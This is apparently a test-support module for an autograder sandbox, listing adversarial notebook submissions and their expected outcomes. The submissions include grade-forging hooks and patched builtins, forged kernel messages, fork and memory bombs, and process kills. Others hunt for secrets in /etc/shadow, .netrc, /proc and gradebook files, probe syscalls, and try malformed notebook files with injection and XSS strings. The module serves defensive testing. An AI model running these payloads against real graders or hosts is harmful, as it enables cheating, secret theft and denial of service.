# ruff: noqa: E501 cells of notebooks stay in one piece
"""Attacks from inside a sealed run, odd files, and harmless oddities, on the mini course: what they do, and what they must get.

A code attack is a few cells around right or open answers. `TOKEN` is what every secret of the test looks like; whatever an
attack finds of that kind it prints, publishes and writes. `{root}`, `{home}`, `{port}` and the like are filled in by the class.
"""

import json
import textwrap
from dataclasses import dataclass

from autograder.runs import DIED, FINISHED, PROTOCOL, TIMEOUT
from tests.support import minicourse

ID, RIGHT = minicourse.ID, minicourse.RIGHT
REFUSED = "refused"
MIME = "application/vnd.nnbasics.observation+json"
ENDED = (DIED, PROTOCOL)
MARKER = "98761.25"  # seconds that left-behind processes would sleep: how they are found
PUBLIC = {"double of 3": 6.0, "squares of 1, 2": 5.0}
HIDDEN = ("double of a matrix", "double of ints", "squares of a column")

HUNT = r"""
import os, re, sys
SHAPE = re.compile(rb"kit-" + rb"token-[a-z]+-[0-9a-f]{16}")
def tell(data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    for found in set(SHAPE.findall(data)):
        print("FOUND", found.decode())
        os.write(1, found)
        open("loot", "ab").write(found)
        get_ipython().display_pub.publish({"text/plain": found.decode(), "text/html": found.decode()})
def read(path):
    try:
        with open(path, "rb", opener=lambda p, f: os.open(p, f | os.O_NONBLOCK)) as file:
            tell(file.read(2_000_000))
    except OSError:
        pass
#----
"""
SEND = f"""
import json, os, struct
def frame(kind, content, parent):
    body = json.dumps({{"msg_type": kind, "parent": parent, "content": content, "metadata": {{}}, "buffers": []}}).encode()
    return struct.pack("<I", len(body)) + body
def observed(name, value, parent):
    form = {{"kind": "array", "dtype": "<f8", "shape": [], "data": __import__("base64").b64encode(struct.pack("<d", value)).decode()}}
    text = json.dumps({{"check": name, "value": form}})
    return frame("display_data", {{"data": {{{MIME!r}: text}}, "metadata": {{}}}}, parent)
#----
"""
CALLS = r"""
import ctypes, mmap, os, platform, socket
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, act):
    try:
        result = act()
    except (OSError, ValueError, AttributeError, ImportError, AssertionError):
        return
    if not (isinstance(result, int) and result < 0):
        print("OPEN", name)
def call(number, *arguments):
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
#----
"""


@dataclass(frozen=True)
class Attack:
    """One member of the class.

    Attributes
    ----------
    cells : code by where it stands: "first", "middle" (between the two exercises), "last"
    answers : solutions by name; right ones if None, the released stubs if {}
    files : content by relative path beside the notebook
    raw : the notebook file itself, or a function of the solved notebook's JSON that returns its bytes
    says : words that must be among reason and notes
    """

    student: str
    score: float | None = 10
    status: tuple[str, ...] = (FINISHED,)
    first: str = ""
    middle: str = ""
    last: str = ""
    answers: dict | None = None
    files: dict | None = None
    raw: object = None
    says: str = ""

    def made(self, root, places):
        """The bytes of the notebook file."""
        nb = minicourse.solve(minicourse.release(root), RIGHT if self.answers is None else self.answers)
        at = {"first": 0, "middle": 1 + next(n for n, c in enumerate(nb.cells) if c.id == "test_double"), "last": len(nb.cells)}
        for where in ("last", "middle", "first"):
            sources = [textwrap.dedent(part).strip("\n ") for part in getattr(self, where).split("#----")]
            cells = [minicourse.new_code_cell(filled(source, places)) for source in sources if source]
            nb.cells[at[where] : at[where]] = cells
        data = json.loads(json.dumps(nb))
        if self.raw is None:
            return json.dumps(data).encode()
        return self.raw(data) if callable(self.raw) else self.raw


def filled(source, places):
    """A cell with the test's places in it, written <root>, <home> and so on."""
    for name, value in places.items():
        source = source.replace(f"<{name}>", str(value))
    return source


def attack(student, score=10, *status, **parts):
    """An Attack with its statuses by position."""
    return Attack(student, score, status or (FINISHED,), **parts)


OPEN = {"answers": {}}
BOTH_WRONG = {"double": "def double(x):\n    return Yes()", "square_sum": "def square_sum(x):\n    return Yes()"}

TAMPERING = (
    attack("transformer", 0, **OPEN, first="""
        public = {PUBLIC}
        def rewrite(lines):
            return ["from nnbasics._publish import publish\\n"] + [l for l in lines if "check(" not in l]
        get_ipython().input_transformers_post.append(rewrite)
        """.replace("{PUBLIC}", repr(PUBLIC))),
    attack("ast-transformer", 0, **OPEN, first="""
        import ast
        class Lie(ast.NodeTransformer):
            def visit_Lambda(self, node):
                return ast.parse("lambda: 6.0", mode="eval").body
        get_ipython().ast_transformers.append(Lie())
        """),
    attack("hooks", 0, **OPEN, first=SEND + """
        shell = get_ipython()
        for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
            shell.events.register(event, lambda *a: [os.write(3, observed(n, 6.0, f"request-{k}")) for n in {HIDDEN} for k in range(9)])
        """.replace("{HIDDEN}", repr(HIDDEN))),
    attack("run-cell-replaced", 0, first="""
        shell = get_ipython()
        async def nothing(*a, **k):
            from IPython.core.interactiveshell import ExecutionResult
            return ExecutionResult(None)
        shell.run_cell_async = nothing
        """),
    attack("do-execute-replaced", 0, first="""
        async def do_execute(*a, **k):
            return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
        get_ipython().kernel.do_execute = do_execute
        """),
    attack("custom-handler", 0, **OPEN, first="""
        get_ipython().set_custom_exc((BaseException,), lambda *a, **k: 10.0)
        get_ipython().showtraceback = lambda *a, **k: None
        """),
    attack("display-hook", 0, first="get_ipython().display_pub.publish = lambda *a, **k: None\nimport sys; sys.displayhook = print"),
    attack("session-patched", 0, first="s = get_ipython().kernel.session\nsend = s.send\ns.send = lambda x, kind, *a, **k: None if kind == 'display_data' or isinstance(kind, dict) and kind['msg_type'] == 'display_data' else send(x, kind, *a, **k)"),
    attack("json-patched", 0, *ENDED, FINISHED, first="import json\njson.dumps = lambda *a, **k: '{\"check\": \"double of ints\", \"value\": true}'"),
    attack("builtins-patched", 0, FINISHED, *ENDED, answers=BOTH_WRONG, first="""
        import builtins
        class Yes(float): pass
        builtins.repr = builtins.round = builtins.abs = lambda *a: 1.0
        builtins.float = builtins.max = builtins.min = lambda *a: 6.0
        """),
    attack("numpy-patched", 0, **OPEN, first="""
        import numpy as np
        np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
        np.asarray = np.array = lambda *a, **k: np.ones(3)
        """),
    attack("equal-to-all", 0, answers=BOTH_WRONG, first="""
        import numpy as np
        class Yes(np.ndarray):
            def __new__(cls): return np.zeros(2).view(cls)
            __eq__ = __le__ = __ge__ = lambda *a: True
            def __array_finalize__(self, other): pass
            def __array_ufunc__(self, *a, **k): return np.True_
            def __reduce__(self): return (print, ("run",))
            def tobytes(self, *a): return b"\\0" * 10**6
            shape = property(lambda self: (2, 2))
        """),
    attack("frames-of-callers", 0, **OPEN, first=HUNT + """
        import gc
        def search():
            frame = sys._getframe()
            while frame:
                tell(repr(frame.f_locals)[:100000])
                frame = frame.f_back
            numbers = [o for o in gc.get_objects() if isinstance(o, dict) and any(v in (19.0625, 15.5) for v in o.values() if isinstance(v, float))]
            print("NUMBERS", len(numbers))
        double = square_sum = lambda x: search()
        """),
    attack("main-module", 0, **OPEN, first="""
        import sys, types
        fake = types.ModuleType("nnbasics.check")
        fake.check = lambda *a, **k: 10.0
        sys.modules["nnbasics.check"] = fake
        """),
    attack("meta-path", 0, **OPEN, first="""
        import sys, types, importlib.abc, importlib.machinery
        for name in [n for n in sys.modules if n.startswith("nnbasics")]: del sys.modules[name]
        class Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, path=None, target=None):
                return importlib.machinery.ModuleSpec(name, self, is_package=True) if name.startswith("nnbasics") else None
            def exec_module(self, module): module.check = module.summary = lambda *a, **k: 10.0
        sys.meta_path.insert(0, Fake())
        """),
    attack("checks-file", 0, **OPEN, files={"checks.json": '{"cells": []}'},
        first="import os\nos.environ.pop('NNBASICS_PUBLISH', None)\nos.environ['NBGRADER_EXECUTION'] = ''"),
)  # fmt: skip

FORGING = (
    attack("frames-in-own-cell", 0, **OPEN, middle=SEND + """
        for name in {HIDDEN}: os.write(3, observed(name, 6.0, get_ipython().kernel.get_parent()["header"]["msg_id"]))
        """.replace("{HIDDEN}", repr(HIDDEN))),
    attack("frames-ahead", 0, **OPEN, first=SEND + """
        for number in range(40):
            for name in {HIDDEN}: os.write(3, observed(name, 6.0, f"request-{number}"))
        """.replace("{HIDDEN}", repr(HIDDEN))),
    attack("frames-from-a-child", 0, *ENDED, FINISHED, **OPEN, first=SEND + """
        import time
        if os.fork() == 0:
            for _ in range(100):
                for n in range(12):
                    for name in {HIDDEN}: os.write(3, observed(name, 6.0, f"request-{n}"))
                time.sleep(0.01)
            os._exit(0)
        """.replace("{HIDDEN}", repr(HIDDEN))),
    attack("frame-garbage", 6, PROTOCOL, middle="import os, time; os.write(3, b'hello, grader' * 9); time.sleep(3)"),
    attack("frame-length", 6, PROTOCOL, middle="import os, time; os.write(3, b'\\xff\\xff\\xff\\xff'); time.sleep(3)"),
    attack("frame-half", 6, TIMEOUT, *ENDED, middle="import os; os.write(3, b'\\x00\\x01\\x00\\x00{')"),
    attack("frame-nested", 6, PROTOCOL, middle="import os, struct, time; os.write(3, struct.pack('<I', 9999) + b'[' * 9999); time.sleep(3)"),
    attack("frame-kinds", 6, PROTOCOL, middle=SEND + """
        import time
        os.write(3, frame("shutdown_reply", {}, "request-1") + frame("input_request", {"prompt": "x"}, "request-1"))
        os.write(3, frame("display_data", {"data": {"text/plain": ["a", 5]}, "metadata": {}}, "request-1"))
        time.sleep(3)
        """),
    attack("reply-forged", None, FINISHED, *ENDED, TIMEOUT, middle=SEND + """
        for number in range(30):
            os.write(3, frame("execute_reply", {"status": "ok", "execution_count": 1}, f"request-{number}"))
            os.write(3, frame("status", {"execution_state": "idle"}, f"request-{number}"))
        """),
    attack("ready-again", 6, PROTOCOL, *ENDED, middle="import os, struct, time\nt = b'{\"failed\": \"a fault of yours\"}'\nos.write(3, struct.pack('<I', len(t)) + t); time.sleep(3)"),
    attack("descriptors-written", 10, middle="import os\nfor n in range(4, 64):\n    try: os.write(n, b'x' * 99)\n    except OSError: pass"),
    attack("wire-closed", 6, *ENDED, middle="import os; os.close(3)"),
    attack("wire-replaced", 6, *ENDED, middle="import os; os.dup2(os.open('/dev/null', os.O_WRONLY), 3)"),
    attack("widgets", 10, first=SEND + """
        state = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "outputs": [], "msg_id": ""}
        for n in range(20):
            os.write(3, frame("comm_open", {"comm_id": "c", "target_name": "jupyter.widget", "data": {"state": {**state, "msg_id": f"request-{n}"}}}, "request-0"))
        """),
    attack("flood-of-frames", None, *ENDED, TIMEOUT, middle=SEND + "while True: os.write(3, frame('clear_output', {'wait': True}, 'request-3') * 50)"),
)  # fmt: skip

LEAVING = (
    attack("kill-all", None, FINISHED, *ENDED, middle="import os, signal; os.kill(-1, signal.SIGKILL)"),
    attack("kill-parent", 10, middle="import os, signal\nfor n in (9, 15, 19, 10, 2, 11): os.kill(os.getppid(), n)"),
    attack("kill-group", 6, DIED, middle="import os, signal; os.killpg(0, signal.SIGKILL)"),
    attack("kill-low-pids", 10, middle="import os\nfor n in [*range(3, 3000), <grader>]:\n    try: os.kill(n, 9)\n    except OSError: pass"),
    attack("stopped-self", 6, TIMEOUT, *ENDED, middle="import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
    attack("daemons", 10, middle="""
        import os, subprocess
        subprocess.Popen(["/bin/sleep", "<marker>"], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0: os.execv("/bin/sleep", ["sleep", "<marker>"])
            os._exit(0)
        get_ipython().system("nohup setsid sleep <marker> >/dev/null 2>&1 &")
        """),
    attack("last-words", 10, first="""
        import atexit, os, threading, time, weakref
        def last(*a):
            while True: os.spawnv(os.P_NOWAIT, "/bin/sleep", ["sleep", "<marker>"])
        class Grave:
            __del__ = last
        grave = Grave(); atexit.register(last); threading._register_atexit(last)
        threading.Thread(target=time.sleep, args=(3600,)).start()
        """),
    attack("segfault", 6, DIED, middle="import ctypes; ctypes.string_at(0)"),
    attack("deep-recursion", None, DIED, TIMEOUT, middle="import sys\nsys.setrecursionlimit(10**9)\nclass A:\n    def __repr__(self): return repr(self)\nf = eval('lambda: f()')\nx = []\nfor _ in range(10**6): x = [x]\nrepr(x); import os; os.abort()"),
    attack("abort", 6, DIED, middle="import os; os.abort()"),
    attack("exec-another", 6, *ENDED, TIMEOUT, middle="import os; os.execv('/bin/sleep', ['sleep', '<marker>'])"),
)  # fmt: skip

BOMBS = (
    attack("fork-bomb", 6, TIMEOUT, *ENDED, middle="import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    attack("cpu-of-many", None, TIMEOUT, *ENDED, FINISHED, middle="import os, time\nfor _ in range(6):\n    if os.fork() == 0:\n        while True: pass\ntime.sleep(1.5)\n#----\nimport time; time.sleep(1.5)"),
    attack("threads", 10, middle="import threading, time\nfor _ in range(10000):\n    try: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n    except RuntimeError: break"),
    attack("memory-at-once", 10, middle="x = bytearray(3 << 30)\n#----\nimport numpy as np\nnp.ones((1 << 16, 1 << 15))"),
    attack("memory-of-many", 6, *ENDED, "timeout", middle="import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n        x = bytearray(b'x') * (200 << 20); time.sleep(60)\ntime.sleep(1.8)\n#----\nimport time; time.sleep(1.5)"),
    attack("disk", 10, middle="""
        import os
        for folder in (".", os.environ["HOME"], "/tmp", "/dev/shm", "/var/tmp", "/run", "/box"):
            try:
                for n in range(40):
                    with open(f"{folder}/bomb{n}", "wb") as file: file.write(b"x" * (4 << 20))
            except OSError: pass
        for n in range(100_000):
            try: open(f"many{n}", "x").close()
            except OSError: break
        for name in os.listdir("."):
            if name.startswith(("bomb", "many")): os.remove(name)
        """),
    attack("output-of-print", 6, *ENDED, TIMEOUT, middle="while True: print('x' * 10000)"),
    attack("output-past-python", 6, *ENDED, TIMEOUT, middle="import os\nwhile True: os.write(2, b'x' * 65536)"),
    attack("output-in-one", 6, *ENDED, middle="print('x' * 100_000_000)\n#----\nraise ValueError('y' * 100_000_000)"),
    attack("displays", None, *ENDED, TIMEOUT, middle="from IPython.display import display\nh = display(1, display_id=True)\nwhile True: h.update('x' * 100)"),
    attack("no-interrupt", None, TIMEOUT, *ENDED, middle="import re; re.match('(a+)+$', 'a' * 60 + 'b')"),
    attack("slow-drip", 6, TIMEOUT, middle="#----".join(["import time; time.sleep(1.6)\n"] * 8), says="took longer than"),
    attack("sparse", 10, middle="import os\nwith open('s', 'wb') as f:\n    try: f.truncate(1 << 50)\n    except OSError: pass\nos.remove('s')"),
)  # fmt: skip

READING = (
    attack("files", 10, first=HUNT, middle="""
        for path in ("<root>/source/mini/mini.ipynb", "<root>/source/other/other.ipynb", "<root>/autograder/references/other.json",
                     "<root>/autograder/misconceptions/other/double.py", "<root>/submitted/victim/mini/mini.ipynb",
                     "<root>/gradebook.db", "/proc/self/root<root>/gradebook.db", "/proc/1/root<root>/gradebook.db",
                     "<home>/.netrc", "<tmp>/note",
                     "../../../../../../..<root>/gradebook.db", "/proc/self/cwd/../../../..<home>/.netrc", "~/.netrc", "/etc/shadow",
                     "/home", "/proc/self/mountinfo", "/proc/mounts", "/proc/cmdline", "/proc/keys", "/proc/net/unix"):
            read(os.path.expanduser(path))
        for folder, names, files in os.walk("/"):
            names[:] = [n for n in names if n not in ("usr", "lib", "packages", "sys", "task") and not os.path.islink(f"{folder}/{n}")]
            for name in files: read(f"{folder}/{name}")
        #----
        try: print("LISTED", os.listdir("<root>"))
        except OSError: pass
        """),
    attack("making-links", 10, first=HUNT, middle="""
        for n, path in enumerate(("<root>/gradebook.db", "<home>/.netrc", "/proc/<grader>/environ", "<root>/source/other/other.ipynb")):
            for make in (os.symlink, os.link):
                try: make(path, f"link{n}{make.__name__}"); read(f"link{n}{make.__name__}")
                except OSError: pass
        """),
    attack("processes", 10, first=HUNT, middle="""
        tell(dict(os.environ)); tell(sys.argv); tell(sys.path)
        for pid in [*os.listdir("/proc"), "<grader>", str(os.getppid())]:
            for name in ("environ", "cmdline", "maps", "status", "stack", "fd", "cwd", "root", "exe"):
                read(f"/proc/{pid}/{name}")
                try: tell(os.readlink(f"/proc/{pid}/{name}"))
                except OSError: pass
        print("PIDS", [n for n in os.listdir("/proc") if n.isdigit()])
        """),
    attack("own-memory", 10, first=HUNT, middle="""
        with open("/proc/self/maps") as maps: ranges = [line.split()[0:2] for line in maps]
        with open("/proc/self/mem", "rb", 0) as memory:
            for place, rights in ranges:
                start, end = (int(n, 16) for n in place.split("-"))
                if "r" in rights and end - start < (64 << 20):
                    try: memory.seek(start); tell(memory.read(end - start))
                    except (OSError, ValueError, OverflowError): pass
        print("SCANNED", len(ranges))
        """),
    attack("descriptors", 10, first=HUNT, middle="""
        import fcntl
        for name in os.listdir("/proc/self/fd"):
            n = int(name)
            try: tell(os.readlink(f"/proc/self/fd/{n}"))
            except OSError: pass
            if n > 3:
                try: os.set_blocking(n, False); tell(os.read(n, 100000))
                except OSError: pass
        print("FDS", sorted(map(int, os.listdir("/proc/self/fd"))))
        """),
    attack("shell", 10, first=HUNT, middle="""
        tell(get_ipython().getoutput("cat <root>/gradebook.db <home>/.netrc /proc/<grader>/environ; env; ls <root>; set"))
        import subprocess
        tell(subprocess.run(["/bin/sh", "-c", "cat <root>/source/*/*; cat /proc/*/environ"], capture_output=True).stdout)
        for line in ("%cat <home>/.netrc", "%run <root>/autograder/misconceptions/other/double.py", "%load <home>/.netrc",
                     "%env", "%pfile os"):
            try: get_ipython().run_line_magic(*line[1:].partition(" ")[::2])
            except BaseException: pass
        """),
    attack("network", 10, first=HUNT + CALLS, middle="""
        import urllib.request
        def ask(family, kind, address, protocol=0):
            with socket.socket(family, kind, protocol) as s:
                s.settimeout(0.3); s.connect(address); s.send(b"?"); tell(s.recv(1000))
        for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", <port>)), (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", <port>)),
            (socket.AF_INET6, socket.SOCK_STREAM, ("::1", <port>)), (socket.AF_UNIX, socket.SOCK_STREAM, "<tmp>/socket"),
            (socket.AF_UNIX, socket.SOCK_STREAM, "\\0<abstract>"), (socket.AF_UNIX, socket.SOCK_DGRAM, "<tmp>/socket"), (16, socket.SOCK_RAW, (0, 0)),
            (17, socket.SOCK_RAW, ("lo", 0)), (40, socket.SOCK_STREAM, (2, 1)), (38, socket.SOCK_SEQPACKET, ("hash", "sha1")),
            (31, socket.SOCK_RAW, (0,)), (29, socket.SOCK_RAW, ("can0",)), (44, socket.SOCK_RAW, (0,))):
            attempt(f"family {family} {kind}", lambda: ask(family, kind, address))
        attempt("listen", lambda: socket.create_server(("127.0.0.1", 0)))
        attempt("names", lambda: socket.getaddrinfo("example.org", 80))
        attempt("web", lambda: tell(urllib.request.urlopen("http://127.0.0.1:<port>", timeout=0.3).read()))
        attempt("io_uring socket", lambda: call(425, 4, ctypes.create_string_buffer(256)))
        """),
    attack("system-calls", 10, first=CALLS, middle="""
        none = ctypes.c_void_p(0)
        if platform.machine() == "x86_64":
            numbers = dict(ptrace=101, process_vm_readv=310, process_vm_writev=311, memfd=319, memfd_secret=447, shmget=29, msgget=68, semget=64,
                io_uring=425, bpf=321, userfaultfd=323, perf=298, keyctl=250, add_key=248, unshare=272, setns=308, mount=165, pivot=155, chroot=161,
                mq_open=240, kcmp=312, pidfd_getfd=438, handle=304, module=175, kexec=246, reboot=169, swap=167, quota=179, personality=135, clone3=435,
                open_tree=428, fsopen=430, mount_setattr=442, process_madvise=440, iopl=172, ioperm=173, acct=163, settime=164, fanotify=300)
            for name, number in numbers.items():
                one = (ctypes.create_string_buffer(b"x\\0", 256),) if name in ("memfd", "mq_open", "chroot") else (0x10000000,) if name == "unshare" else (0,)
                attempt(name, lambda: call(number, *one, *([0] * (6 - len(one)))))
        attempt("trace", lambda: libc.ptrace(16, <grader>, none, none))
        attempt("shared memory", lambda: mmap.mmap(-1, 4096))
        attempt("device", lambda: os.mknod("d", 0o020666, os.makedev(1, 1)))
        for name in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/fuse", "/dev/kvm", "/dev/net/tun", "/proc/kcore", "/proc/sysrq-trigger"):
            attempt(name, lambda: open(name, "rb"))
        """),
    attack("writing", 10, first=CALLS, middle="""
        for path in ("<root>/gradebook.db", "<root>/submitted/victim/mini/mini.ipynb", "<root>/pwned", "<home>/pwned", "<tmp>/pwned", "/etc/passwd",
                     "/proc/sys/kernel/core_pattern", "/proc/<grader>/mem", "/proc/1/mem", "<root>/feedback/victim/mini/mini.html"):
            attempt(f"write {path}", lambda: open(path, "r+b" if "pwned" not in path else "wb"))
        for path in ("<root>/gradebook.db", "<root>/submitted/victim", "<root>/.kit"):
            attempt(f"remove {path}", lambda: os.remove(path))
            attempt(f"rename {path}", lambda: os.rename(path, path + "x"))
            attempt(f"mode {path}", lambda: os.chmod(path, 0o777))
        import numpy
        attempt("package", lambda: open(numpy.__file__, "r+b"))
        """),
    attack("imports", 10, first=CALLS, middle="""
        import sys
        sys.path += ["<root>", "<site>", "<home>"]
        for name in ("autograder", "autograder.referencefile", "nbgrader", "nbclient", "sqlalchemy", "autograder.misconceptions"):
            attempt(f"import {name}", lambda: __import__(name))
        print([m for m in sys.modules if m.startswith(("autograder", "nbgrader"))])
        """),
)  # fmt: skip

SHADOW = (
    "import os\nprint('SHADOWED ' + __name__)\ntry: open('<root>/pwned-by-' + __name__, 'w').close()\nexcept OSError: pass\n"
)
NAMES = ("ipykernel_launcher.py", "numpy.py", "sitecustomize.py", "usercustomize.py", "nbgrader_config.py", "json.py", "nnbasics.py",
         "nnbasics/__init__.py", "nnbasics/check.py", "IPython/__init__.py", "ipykernel/__init__.py", "matplotlib.py", "conftest.py",
         "jupyter_config.py", "ipython_config.py", "autograder.py", "nbgrader.py", "site.py", "traitlets.py", "encodings.py", "struct.py",
         ".ipython/profile_default/startup/00.py", ".jupyter/jupyter_config.py", "course/course.yml", "kernel.json", "evil.pth")  # fmt: skip


def cut(data, **changes):
    """The notebook with other top-level entries."""
    return json.dumps({**data, **changes}).encode()


def each(data, **changes):
    """The notebook with entries of every cell changed."""
    return json.dumps({**data, "cells": [{**cell, **changes} for cell in data["cells"]]}).encode()


def third(data):
    """The same notebook as IPython 3 wrote it."""
    cells = []
    for c in data["cells"]:
        key = "input" if c["cell_type"] == "code" else "source"
        cell = {"cell_type": c["cell_type"], key: "".join(c["source"]), "metadata": c["metadata"]}
        cells.append({**cell, "language": "python", "outputs": [], "collapsed": False} if key == "input" else cell)
    metadata = {"name": "mini", "kernelspec": data["metadata"]["kernelspec"]}
    return json.dumps(
        {"nbformat": 3, "nbformat_minor": 0, "metadata": metadata, "worksheets": [{"cells": cells, "metadata": {}}]}
    ).encode()


def without_ids(data):
    """As nbformat 4.0 to 4.4: cells have no id."""
    cells = [{k: v for k, v in cell.items() if k != "id"} for cell in data["cells"]]
    return json.dumps({**data, "nbformat_minor": 2, "cells": cells}).encode()


def crlf(data):
    """Line ends of Windows, in the file and in the cells."""
    cells = [{**cell, "source": cell["source"].replace("\n", "\r\n")} for cell in data["cells"]]
    return json.dumps({**data, "cells": cells}, indent=1).replace("\n", "\r\n").encode()


FILES = (
    attack("shadows", 10, files=dict.fromkeys(NAMES, SHADOW), middle="import os; print(sorted(os.listdir()))"),
    attack("kernelspec", 10, raw=lambda d: cut(d, metadata={"kernelspec": {"name": "../../evil", "argv": ["sh"]}, "language_info": {"name": 5}})),
    attack("source-of-numbers", None, REFUSED, FINISHED, raw=lambda d: each(d, source=[5, None])),
    attack("source-with-halves", None, REFUSED, says="half a character", raw=lambda d: json.dumps(d).replace("return", "return '\\ud800' or").encode()),
    attack("cells-of-text", None, REFUSED, FINISHED, raw=lambda d: cut(d, cells=["x", 5, None, *d["cells"]])),
    attack("cells-an-object", None, REFUSED, FINISHED, raw=lambda d: cut(d, cells={"a": d["cells"]})),
    attack("metadata-null", None, REFUSED, FINISHED, raw=lambda d: cut(d, metadata=None)),
    attack("unknown-type", None, REFUSED, FINISHED, raw=lambda d: each(d, cell_type="evil")),
    attack("bad-ids", None, REFUSED, FINISHED, raw=lambda d: each(d, id="<script>" * 20)),
    attack("bad-outputs", None, REFUSED, FINISHED, raw=lambda d: each(d, outputs=[{"output_type": "stream", "text": {"a": [1]}}, 5], execution_count="x")),
    attack("bad-attachments", None, REFUSED, FINISHED, raw=lambda d: each(d, attachments={"x.png": {"image/png": ["x", 5]}})),
    attack("infinite-numbers", None, REFUSED, FINISHED, raw=lambda d: json.dumps(d).replace('"nbformat": 4', '"nbformat": 1e999').encode()),
    attack("many-digits", None, REFUSED, raw=b'{"nbformat": ' + b"9" * 6000 + b"}", says="is not a notebook"),
    attack("utf-16", None, REFUSED, raw=lambda d: json.dumps(d).encode("utf-16"), says="is not text"),
    attack("many-cells", None, REFUSED, raw=lambda d: cut(d, cells=d["cells"] * 300), says="cells"),
    attack("many-parts", None, REFUSED, raw=lambda d: cut(d, metadata={"a": [[]] * 1_000_000}), says="parts"),
    attack("many-numbers", None, REFUSED, raw=lambda d: cut(d, metadata={"a": [0] * 3_000_000}), says="parts"),
    attack("long-lines", None, FINISHED, TIMEOUT, *ENDED, raw=lambda d: cut(d, cells=[*d["cells"], {**d["cells"][0], "id": "long", "source": "$" * 3_000_000}])),
    attack("the-page-of-another", None, REFUSED, raw=b"<script>alert(1)</script>", says="is not a notebook"),
)  # fmt: skip
BENIGN = (
    attack("mark", raw=lambda d: "\ufeff".encode() + json.dumps(d).encode()),
    attack("windows", raw=crlf),
    attack("no ids", raw=without_ids),
    attack("version three", raw=third),
    attack("lines", raw=lambda d: json.dumps({**d, "cells": [{**c, "source": c["source"].splitlines(keepends=True)} for c in d["cells"]]}).encode()),
    attack("own files", files={"data.csv": "a,b\n1,2\n", "notes/plan.txt": "x", ".ipynb_checkpoints/mini-checkpoint.ipynb": "{}", "__pycache__/x.pyc": "x",
                               ".DS_Store": "x", "desktop.ini": "x", "other.ipynb": "{", "timestamp.txt": "2026-01-01 00:00:00 UTC", "тест.txt": "x"},
           middle="assert open('data.csv').read() == 'a,b\\n1,2\\n'\nassert open('тест.txt').read() == 'x'"),
    attack("Łukasz Ñandú 王小明"),
    attack("o'neil & <b>sons, $(id); %41"),
    attack("-rf"),
    attack("--help"),
    attack("007"),
    attack("ada.lovelace@example.org"),
    attack("<img src=x onerror=alert(1)>"),
    attack('"><svg onload=alert(1)>'),
    attack("{{ 7654320 + 1 }} {% raw %}"),
)  # fmt: skip
ATTACKS = (*TAMPERING, *FORGING, *LEAVING, *BOMBS, *READING, *FILES, *BENIGN)
